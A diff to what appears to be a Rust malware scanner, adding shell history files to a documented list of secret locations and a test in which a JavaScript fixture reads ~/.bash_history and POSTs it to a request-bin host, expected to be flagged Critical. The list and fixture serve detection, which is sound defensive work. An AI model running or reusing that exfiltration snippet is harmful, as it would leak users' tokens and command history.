@@ -35,7 +35,9 @@ commands that name where secrets live:
 - app sessions: Discord's token store (`discord/Local Storage/leveldb`, also the Canary, PTB and
   Lightcord builds; any Chromium or Electron app's `Local Storage/leveldb`, where web sessions
   live) and Telegram Desktop's `tdata` directory;
-- secret scanners downloaded or run: trufflehog, gitleaks.
+- secret scanners downloaded or run: trufflehog, gitleaks;
+- shell history: `~/.bash_history`, `~/.zsh_history`, PowerShell's `ConsoleHost_history.txt`
+  (tokens pasted into commands end up there).
 
 Graded by breadth and by what else the file does: one developer-token location is moderate (tools
 like registry-auth-token read `~/.npmrc`); browser or wallet data, an app session store,
@@ -213,6 +215,15 @@ mod tests {
         // AWS SDK clients read ~/.aws/credentials and sign requests with them.
         let sdk = run("const p = require('os').homedir() + '/.aws/credentials';\nconst c = require('fs').readFileSync(p, 'utf8');\nrequire('https').request({ host: 'sts.amazonaws.com' }).end();");
         assert!(!sdk[0].capabilities.contains(&Capability::Network), "{sdk:?}");
+    }
+
+    #[test]
+    fn shell_history_sent_to_a_request_bin_is_critical() {
+        let source = "const fs = require('fs');\nconst h = fs.readFileSync(require('os').homedir() + '/.bash_history', 'utf8');\nrequire('https').request({ hostname: 'eo1k2j3h4.x.pipedream.net', method: 'POST' }).end(h);";
+        assert_eq!(worst(source), Severity::Critical, "{:?}", run(source));
+        assert!(run(source)[0].message.contains("shell history"));
+        // The REPL's own history file is not the shell's.
+        assert!(run("const p = require('path').join(require('os').homedir(), '.node_repl_history');").is_empty());
     }
 
     #[test]
